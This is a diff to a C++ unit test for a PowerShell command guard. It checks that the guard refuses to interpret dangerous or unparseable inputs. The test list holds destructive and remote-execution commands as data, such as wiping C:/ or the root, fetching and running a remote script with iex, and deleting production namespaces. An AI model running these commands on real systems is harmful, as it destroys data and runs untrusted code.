@@ -1,6 +1,6 @@
-#include <gtest/gtest.h>
-
 #include "countersign/guard/powershell.h"
+
+#include <gtest/gtest.h>
 
 namespace cs::test {
 namespace {
@@ -34,9 +34,10 @@ TEST(GuardPowerShell, FileCmdletsBecomeTheShellCommandsThatDoTheSame) {
 TEST(GuardPowerShell, WhatItCannotReadIsNeverGuessed) {
   for (std::string_view ps :
        {"iex (iwr https://example.com/x.ps1)", "Invoke-Expression 'rm -r -fo /'", "& { Remove-Item -Recurse C:/ }",
-        "$p = 'prod'; kubectl delete ns $p", "kubectl delete ns \"$env:NS\"", "Get-ChildItem | ForEach-Object { rm $_ }",
-        "Remove-AzResourceGroup -Name prod -Force", "Start-Process powershell -ArgumentList '-c rm'", ". ./deploy.ps1",
-        "cmd /c rd /s /q C:\\", "kubectl --% delete ns prod", "echo 'unterminated", "Remove-Item -Recurse", "git log |",
+        "$p = 'prod'; kubectl delete ns $p", "kubectl delete ns \"$env:NS\"",
+        "Get-ChildItem | ForEach-Object { rm $_ }", "Remove-AzResourceGroup -Name prod -Force",
+        "Start-Process powershell -ArgumentList '-c rm'", ". ./deploy.ps1", "cmd /c rd /s /q C:\\",
+        "kubectl --% delete ns prod", "echo 'unterminated", "Remove-Item -Recurse", "git log |",
         "Remove-Item -Filter *.tmp -Bogus x", "@(1,2) | % { $_ }", ""}) {
     auto r = guard::powershell_as_shell(ps);
     EXPECT_FALSE(r) << ps << " read as " << *r;
